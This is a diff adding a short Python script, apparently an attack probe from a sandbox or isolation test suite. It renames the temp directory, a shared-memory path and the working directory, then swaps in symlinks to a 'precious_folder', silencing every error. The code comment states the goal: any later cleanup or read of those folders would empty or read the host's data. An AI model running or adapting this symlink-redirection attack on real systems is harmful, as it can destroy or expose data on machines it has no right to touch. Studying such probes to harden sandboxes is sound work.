@@ -1,0 +1,14 @@
+import contextlib
+import os
+
+from attack import given
+
+# With a link in the place of a folder, whoever empties or reads that would empty or read the host's.
+for folder in (os.environ["TMPDIR"], os.path.join(os.environ["TMPDIR"], "..", "shm"), os.getcwd()):
+    for name in ("turnwise_attack_link", "fetched"):
+        with contextlib.suppress(OSError):
+            os.symlink(given["precious_folder"], f"{folder}/{name}")
+    with contextlib.suppress(OSError):
+        os.rename(folder, f"{folder}-moved")
+        os.symlink(given["precious_folder"], folder)
+print("tried")
